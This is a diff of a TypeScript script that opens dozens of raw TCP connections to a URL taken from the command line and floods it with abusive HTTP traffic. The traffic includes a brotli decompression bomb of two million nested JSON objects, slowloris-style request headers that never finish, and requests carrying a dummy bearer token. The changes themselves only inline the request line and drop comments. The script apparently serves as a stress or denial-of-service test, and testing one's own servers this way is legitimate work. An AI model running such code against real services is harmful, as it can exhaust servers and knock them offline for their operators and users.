@@ -3,8 +3,6 @@
 import { connect, type Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
 import { brotliCompressSync } from "node:zlib";
-import { head } from "./target.ts";
-
 const [url = ""] = process.argv.slice(2);
 const { hostname, port, host } = new URL(url);
 const stranger = `Authorization: Bearer ${"0".repeat(32)}\r\n`;
@@ -13,7 +11,6 @@ const bomb = brotliCompressSync(`{"a":[${"{},".repeat(2_000_000)}{}]}`);
 const coded = `Content-Type: application/json\r\nContent-Encoding: br\r\nContent-Length: ${bomb.length}\r\n`;
 const json = "Content-Type: application/json\r\n";
 
-/** Connections of each kind. */
 const each = 40;
 /** Milliseconds between two requests of a connection that sends many. */
 const pause = 500;
@@ -45,7 +42,7 @@ async function repeat(fields: string, method: string, at: string, body: Uint8Arr
     const socket = await open();
     const closed = new Promise<void>((done) => socket.once("close", () => done()));
     socket.resume();
-    socket.write(head(url, method, at, fields));
+    socket.write(`${method} ${at} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${fields}\r\n`);
     socket.write(body);
     await closed;
     await wait(pause);
@@ -57,7 +54,6 @@ const secret = (at: number) =>
 const form = (body: string) =>
   `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n`;
 
-/** What each kind of connection does. */
 const kinds: readonly ((at: number) => Promise<unknown>)[] = [
   // A head that never ends.
   () => trickle(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `),
